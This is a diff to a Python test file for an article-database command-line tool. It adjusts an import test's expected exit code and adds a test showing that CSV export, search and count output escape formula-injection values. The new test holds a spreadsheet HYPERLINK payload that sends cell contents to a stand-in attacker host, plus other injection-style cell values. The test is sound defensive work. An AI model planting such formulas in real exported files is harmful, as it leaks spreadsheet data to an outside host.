@@ -178,7 +178,7 @@ def test_export_streams_in_flat_memory(tmp_path: Path) -> None:
 def test_cli_import_then_export(db_url: str, tmp_path: Path) -> None:
     source = write_jsonl(tmp_path / "in.jsonl", [*ARTICLES.values(), {"url": "nope"}])
     result = CliRunner().invoke(main, ["import", str(source), "--db", db_url])
-    assert result.exit_code == 0, result.output
+    assert result.exit_code == 3, result.output  # some lines refused, the others imported
     assert "6 new" in result.output and "1 not imported" in result.output
     assert "line 7: 'url' must be an http(s) URL" in result.output
     out = tmp_path / "out.jsonl"
@@ -188,3 +188,27 @@ def test_cli_import_then_export(db_url: str, tmp_path: Path) -> None:
     assert len(out.read_text(encoding="utf-8").splitlines()) == 2
     result = CliRunner().invoke(main, ["export", "--format", "csv", "-o", "-", "--db", db_url])
     assert result.exit_code == 0 and result.output.count("https://") >= 6
+
+
+def test_no_csv_cell_is_a_live_formula(db_url: str, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    source = write_jsonl(tmp_path / "formulas.jsonl", [
+        {"url": "https://x.example/a", "title": formula, "text": "-2+3 otter", "authors":
+         ["@admin"], "source": "-dash.example", "published": "2026-01-05"}])
+    assert CliRunner().invoke(main, ["import", str(source), "--db", db_url]).exit_code == 0
+
+    def cells(*args: str) -> list[dict[str, str]]:
+        result = CliRunner().invoke(main, [*args, "--db", db_url])
+        assert result.exit_code == 0, result.output
+        return list(csv.DictReader(result.stdout.splitlines()))
+
+    exported, = cells("export", "otter", "--format", "csv", "--output", "-")
+    assert exported["title"] == "'" + formula and exported["text"] == "'-2+3 otter"
+    assert exported["authors"] == "'@admin" and exported["source"] == "'-dash.example"
+    found, = cells("search", "otter", "--format", "csv")
+    assert found["title"] == "'" + formula and found["source"] == "'-dash.example"
+    counted, = cells("count", "--per", "source", "--format", "csv")
+    assert counted == {"period": "2026-01-05", "source": "'-dash.example", "count": "1"}
+    # JSON Lines keeps the text as it is
+    line = CliRunner().invoke(main, ["export", "--format", "jsonl", "-o", "-", "--db", db_url])
+    assert json.loads(line.stdout)["title"] == formula
